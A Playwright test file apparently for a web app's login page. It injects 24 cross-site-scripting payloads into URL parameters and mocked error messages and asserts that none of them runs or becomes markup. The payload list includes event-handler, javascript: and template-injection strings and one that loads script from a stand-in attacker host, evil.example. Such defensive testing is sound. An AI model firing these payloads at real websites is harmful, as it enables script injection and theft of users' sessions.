import type { Page } from '@playwright/test';
import { expect, isDeployed, newPhone, refusals, seamReason, test, zh } from './fixtures.ts';

/** Texts that run a script if they are written as markup, into an attribute, or into a script (docs/security.md#markup): 24. */
const scripts: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=window.hit=1>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '" autofocus onfocus="alert(1)',
  "'-alert(1)-'",
  '`${alert(1)}`',
  '{{constructor.constructor("alert(1)")()}}',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  'javascript:alert(1)//<script>',
];

test.beforeEach(() => test.skip(isDeployed, seamReason));

/**
 * Collects evidence that a script of a payload ran. It only listens, because interception would disable the browser's
 * cache.
 */
function watchScripts(page: Page): string[] {
  const signs: string[] = [];
  page.on('dialog', (dialog) => {
    signs.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.context().on('request', (request) => {
    if (new URL(request.url()).host === 'evil.example') signs.push(`request: ${request.url()}`);
  });
  return signs;
}

/** Counts elements and attributes that only a payload could have added. */
const countMarkup = (page: Page) =>
  page.evaluate(
    () =>
      document.querySelectorAll(
        '[onerror], [onload], [onfocus], [onbegin], [ontoggle], [srcdoc], iframe, math, animate, script[src*="evil"], [src="x"], [href^="javascript:"]',
      ).length + ('hit' in window ? 1 : 0),
  );

/** All payloads in one address, except the one that is an address itself, which must be alone. */
const texts = [scripts.at(-1) ?? '', scripts.slice(0, -1).join(' ')];

test('none of 24 scripts in what the address says about the login runs or becomes markup', async ({ page, login }) => {
  expect(scripts).toHaveLength(24);
  const signs = watchScripts(page);
  const start = '/welcome/account';
  for (const query of ['auth={x}&redirect={x}&binfo={x}&invite_code={x}', 'auth=wechat&binfo={x}']) {
    for (const text of texts) {
      await page.goto(`${start}?${query.replaceAll('{x}', () => encodeURIComponent(text))}`);
      await expect(login.root).toBeVisible();
      await expect(page).toHaveURL(new RegExp(`${start}$`));
      expect(await countMarkup(page), text).toBe(0);
    }
  }
  expect(signs).toEqual([]);
});

const markup = 'maintenance <img src=x onerror=alert(1)>';

test('markup in a failed answer and in a refusal is shown as text', async ({ page, login }) => {
  const { auth } = zh;
  const signs = watchScripts(page);
  await page.goto('/welcome/rqdata?auth=login');
  const submit = async () => {
    await login.field(auth.phone).fill(newPhone());
    await login.field(auth.code).fill('000000');
    await login.agree();
    await login.button(auth.submitCode).click();
  };
  for (const answer of [
    { status: 400, json: { code: 400, message: markup } },
    { status: 403, json: { code: 403, message: markup } },
  ]) {
    await page.route('**/api/user/login/phone', (route) => route.fulfill(answer), { times: 1 });
    await submit();
    await expect(login.toast(markup)).toBeVisible();
    expect(await countMarkup(page)).toBe(0);
    await login.dismissToast(markup);
  }
  const refused = { code: refusals.codeWrong.code, message: markup };
  await page.route('**/api/user/login/phone', (route) => route.fulfill({ json: refused }), { times: 1 });
  await submit();
  await expect(login.refusal).toHaveText(markup);
  expect(await countMarkup(page)).toBe(0);
  expect(signs).toEqual([]);
});
